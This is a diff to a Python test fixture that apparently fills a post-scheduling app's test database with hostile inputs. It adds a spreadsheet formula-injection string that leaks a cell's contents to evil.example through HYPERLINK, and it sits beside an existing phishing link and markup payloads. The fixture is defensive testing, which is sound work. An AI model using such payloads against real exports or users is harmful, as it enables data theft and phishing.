@@ -36,6 +36,9 @@ PHISHING_LINK = "[Reconnectez-vous ici](https://evil.example/login)"
 REMOTE_IMAGE = "![](https://evil.example/p.png)"
 HOSTILE_REPLY = f"{PHISHING_LINK} {REMOTE_IMAGE}"
 MARKUP = (IMG_TAG, SCRIPT_LINK, PIXEL, PHISHING_LINK, REMOTE_IMAGE)
+#: A spreadsheet formula at the start of a text: harmless on a page, run by a spreadsheet that
+#: opens a CSV holding it as typed.
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1;"Détails")'
 #: Text that breaks layouts and naive code rather than security.
 LONG_WORD = "Anticonstitutionnellement" * 12  # 300 letters, no break opportunity
 EMOJI = "✊🏽🕊️🇨🇦"
@@ -278,7 +281,7 @@ def build_busy_database(url: str, *, now: dt.datetime | None = None) -> Busy:
             "alt": f"Photo {HOSTILE}", "source": "photo.png"}])
         for kind in ("x", "mastodon"):
             delivery(broken, made[kind], states.SCHEDULED, at=now + dt.timedelta(days=2))
-        rejected = post(f"Refusée {IMG_TAG}", hostile_case, status="rejected", comment=f"Non : {HOSTILE}")
+        rejected = post(f"{FORMULA} Refusée {IMG_TAG}", hostile_case, status="rejected", comment=f"Non : {HOSTILE}")
         delivery(rejected, made["x"], states.SCHEDULED, at=now + dt.timedelta(days=3))
         draft = post(f"Brouillon {SCRIPT_LINK} {LONG_WORD}", hostile_case, status="draft", author="edith",
                      images=[{**pictured[0], "filename": f"{SCRIPT_LINK} {PIXEL}.png"}])
